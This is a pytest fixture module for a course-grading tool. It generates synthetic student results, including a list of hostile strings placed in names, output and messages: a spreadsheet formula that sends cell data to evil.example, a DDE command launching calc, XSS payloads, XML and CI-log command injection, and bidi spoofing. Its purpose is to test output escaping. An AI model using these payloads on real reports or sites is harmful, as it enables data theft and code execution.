"""Results as grading makes them: one of every kind, hostile ones, and whole classes of any size."""

import random
from types import SimpleNamespace

import pytest

from bpkit.course import catalog
from bpkit.judging.verdict import Status
from bpkit.report.results import Outcome, Result

SIGNATURES = ("zero", "factor", "transposed", "not_summed", "signs")
# What an unfriendly student hands in as a name, prints, or raises.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"my grade")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "]]></system-out><error/>",
    "a\x00b\x1b[31mred\x07\x9b",
    "\u202egnp.exe\u2066 \u2028 \ufeff",
    "half a pair \ud83d, not a character \uffff",
    "```\n# not a heading\n[x](javascript:alert(1)) <b>bold</b> | cell",
    "##vso[task.complete]\n::error::no",
    "line\r\nline\r,;\t'",
    "Points Possible",
)


def a_finding(check="values", status=Status.FAILED, message="It is wrong.", **more):
    """Return a finding as `data.to_data` gives it."""
    return {
        "check": check,
        "status": Status(status).value,
        "case": "a batch",
        "array": None,
        "message": message,
        "mistake": None,
        "signature": None,
        "where": None,
        "max_error": None,
        **more,
    }


def a_part(part, status, *findings):
    """Return a part's verdict: all of its points or none, and null where it was not judged."""
    points = {Status.PASSED: part.points, Status.NOT_JUDGED: None}.get(status, 0)
    return {
        "name": part.function,
        "status": Status(status).value,
        "points": points,
        "max_points": part.points,
        "findings": list(findings),
    }


def an_exercise(exercise, parts, output=""):
    """Return an exercise's verdict; its status is the gravest of its parts'."""
    rank = [status.value for status in Status]
    return {
        "id": exercise.id,
        "status": max((part["status"] for part in parts), key=rank.index),
        "points": sum(part["points"] or 0 for part in parts),
        "open_points": sum(part["max_points"] for part in parts if part["points"] is None),
        "max_points": exercise.points,
        "seconds": 0.0123,
        "output": output,
        "parts": parts,
    }


def a_verdict(exercises):
    """Return a verdict about these exercises."""
    return {
        "schema": "bpkit/verdict/v1",
        "score": sum(exercise["points"] for exercise in exercises),
        "open_score": sum(exercise["open_points"] for exercise in exercises),
        "max_score": sum(exercise["max_points"] for exercise in exercises),
        "isolation": 2,
        "exercises": exercises,
    }


def came_out(exercise, status, *findings, output=""):
    """Return an exercise whose last part came out like this and whose other parts pass."""
    *first, last = exercise.parts
    if status in (Status.PASSED, Status.FAILED):
        parts = [a_part(part, Status.PASSED) for part in first] + [a_part(last, status, *findings)]
    else:
        parts = [a_part(part, status, *findings) for part in exercise.parts]
    return an_exercise(exercise, parts, output)


def a_result(student, judged, name=""):
    """Return the result of a submission that was graded."""
    return Result(student, name, Outcome.GRADED, "", a_verdict(judged))


def all_zero(exercises, student="zero"):
    """Return a result that earned nothing: every part is a wrong answer."""
    judged = [
        an_exercise(exercise, [a_part(part, Status.FAILED, a_finding()) for part in exercise.parts])
        for exercise in exercises.values()
    ]
    return a_result(student, judged, "Zoë Zero")


def one_of_each(exercises):
    """Return one result for each outcome, and one for each status: it is that of the first exercise."""
    first, *others = exercises.values()
    results = [
        a_result(
            f"s-{status.value}",
            [
                came_out(
                    first,
                    status,
                    *([] if status is Status.PASSED else [a_finding("any", status, f"This {status.value}.")]),
                ),
                *(came_out(other, Status.PASSED) for other in others),
            ],
            f"Student {status.value}",
        )
        for status in Status
    ]
    absent = [
        Result(f"o-{outcome.value}", "", outcome, f"Because of {outcome.value}.", None)
        for outcome in (Outcome.REFUSED, Outcome.NOT_HANDED_IN, Outcome.NOT_JUDGED)
    ]
    return [*results, all_zero(exercises), *absent]


def hostile(exercises):
    """Return a result for each hostile text, which stands in every place that a student has a hand in."""
    first = next(iter(exercises.values()))
    return [
        a_result(
            text,
            [
                came_out(
                    first,
                    Status.CRASHED,
                    a_finding("exception", Status.CRASHED, f"{text}\n    {text}"),
                    output=text,
                )
            ],
            text,
        )
        for text in HOSTILE
    ] + [Result("refused", HOSTILE[2], Outcome.REFUSED, f"No archive: {HOSTILE[2]} {HOSTILE[6]}", None)]


def many_exercises(number):
    """Return this many exercises: the catalog's, and again under other ids where they do not suffice."""
    known = [catalog.find(exercise_id) for exercise_id in catalog.ids()]
    found = {}
    for place in range(number):
        again, index = divmod(place, len(known))
        exercise = known[index]
        exercise_id = exercise.id if not again else f"{exercise.chapter}_{again + 1}/{exercise.name}"
        found[exercise_id] = exercise._replace(id=exercise_id)
    return found


def a_class(students, exercises, seed=1):
    """Return the results of a class: some able, some not, some absent, a few mistakes that many make."""
    chance = random.Random(seed)
    return [_student(number, exercises, chance) for number in range(students)]


def _student(number, exercises, chance):
    student = f"{chance.choice(FIRST).lower()}{number:04d}"
    name = f"{chance.choice(FIRST)} {chance.choice(LAST)}"
    luck = chance.random()
    if luck < 0.05:
        outcome = chance.choice(
            [Outcome.NOT_HANDED_IN, Outcome.NOT_HANDED_IN, Outcome.REFUSED, Outcome.NOT_JUDGED]
        )
        return Result(student, name, outcome, WHY[outcome], None)
    ability, gives_up = chance.betavariate(3, 1.3), chance.random() * 2
    total = len(exercises)
    return a_result(
        student,
        [
            _judged(
                exercise, Status.NOT_STARTED if place / total > gives_up else _status(ability, chance), chance
            )
            for place, exercise in enumerate(exercises.values())
        ],
        name,
    )


def _status(ability, chance):
    if chance.random() < 0.35 + 0.65 * ability:
        return Status.PASSED
    return chance.choices(list(Status), weights=[0, 1, 0.4, 12, 0.6, 0.1, 0.5, 2, 0.1])[0]


def _judged(exercise, status, chance):
    if status is Status.PASSED:
        return came_out(exercise, status)
    if status is not Status.FAILED:
        return came_out(exercise, status, a_finding("any", status, f"This {status.value}."))
    array = exercise.parts[-1].returns[-1]
    luck = chance.random()
    if luck < 0.7:
        mistakes = list(exercise.mistakes)
        mistake = mistakes[min(int(chance.expovariate(0.5)), len(mistakes) - 1)]
        told = f"{array} has the right shape and the wrong values.\n{exercise.mistakes[mistake]}"
        return came_out(exercise, status, a_finding("values", status, told, array=array, mistake=mistake))
    if luck < 0.85:
        signature = chance.choice(SIGNATURES)
        return came_out(exercise, status, a_finding("values", status, array=array, signature=signature))
    return came_out(
        exercise, status, a_finding(chance.choice(["values", "shape", "mutation"]), status, array=array)
    )


FIRST = (
    "Ada",
    "Emmy",
    "Sofia",
    "Grace",
    "Alan",
    "Kurt",
    "Srinivasa",
    "Maryam",
    "Terence",
    "Émilie",
    "Jürgen",
    "Łukasz",
)
LAST = (
    "Lovelace",
    "Noether",
    "Kovalevskaya",
    "Hopper",
    "Turing",
    "Gödel",
    "Ramanujan",
    "Mirzakhani",
    "O'Neil",
    "Du",
)
WHY = {
    Outcome.NOT_HANDED_IN: "Nothing was handed in.",
    Outcome.REFUSED: "The archive holds a symbolic link (layers/linear.py).",
    Outcome.NOT_JUDGED: "The worker could not be started.",
}


@pytest.fixture(scope="session")
def make():
    """Return the functions above: test modules cannot import one conftest among several."""
    return SimpleNamespace(
        finding=a_finding,
        part=a_part,
        exercise=an_exercise,
        result=a_result,
        came_out=came_out,
        all_zero=all_zero,
        exercises=many_exercises,
        classroom=a_class,
        hostile=HOSTILE,
    )


@pytest.fixture(scope="session")
def exercises():
    """Return three exercises by id: two with a pair of functions, and one with a single one."""
    return {name: catalog.find(name) for name in ("layers/linear", "neuron/relu", "optimizers/sgd")}


@pytest.fixture(scope="session")
def each(exercises):
    """Return one result for each outcome and each status."""
    return one_of_each(exercises)


@pytest.fixture(scope="session")
def evil(exercises):
    """Return results with hostile names, output and messages."""
    return hostile(exercises)


@pytest.fixture(scope="session")
def some_class():
    """Return a class of 30 with all exercises, and those exercises."""
    exercises = many_exercises(len(catalog.ids()))
    return a_class(30, exercises), exercises
